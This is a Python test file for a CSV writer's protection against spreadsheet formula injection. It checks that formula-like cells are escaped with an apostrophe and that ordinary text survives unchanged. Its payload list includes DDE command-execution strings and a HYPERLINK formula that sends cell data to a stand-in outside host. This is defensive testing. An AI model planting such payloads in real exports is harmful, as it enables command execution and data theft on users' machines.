"""No text that people wrote becomes a formula in a spreadsheet, and none is lost."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adapters.csv import writing
from adapters.csv.writing import table

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    '"=1',
    "'=1",
    "\ufeff=1",
    "\0=1",
    "＝1",
    "＋1",
    "－1",
    "＠A1",
    '=HYPERLINK("http://elsewhere.example/?"&A1;"열기")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@IMPORTXML(A1)",
    "\t",
]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def every_formula_is_text() -> None:
    for formula in FORMULAS:
        assert read(table([[formula, "next"]])) == [[f"'{formula}", "next"]], formula


def test_every_formula_is_text() -> None:
    every_formula_is_text()


def test_unguarded_it_would_be_a_formula(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(writing, "shown", lambda cell: cell)
    with pytest.raises(AssertionError):
        every_formula_is_text()


@pytest.mark.parametrize("cell", ["", "김하나", "-5", "+3.5", "1,5", "a=b", "7-01", "a@b", 'say "yes"', "a;b,c\nd"])
def test_what_is_no_formula_stays_as_it_is(cell: str) -> None:
    assert read(table([[cell]])) == [[cell]]


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=4), max_size=4))
def test_every_cell_comes_back_as_one_cell(rows: list[list[str]]) -> None:
    back = read(table(rows))
    assert [[cell.removeprefix("'") for cell in row] for row in back] == [
        [cell.removeprefix("'") for cell in row] for row in rows
    ]
    assert all(line.startswith('"') for line in [table([row]) for row in rows])
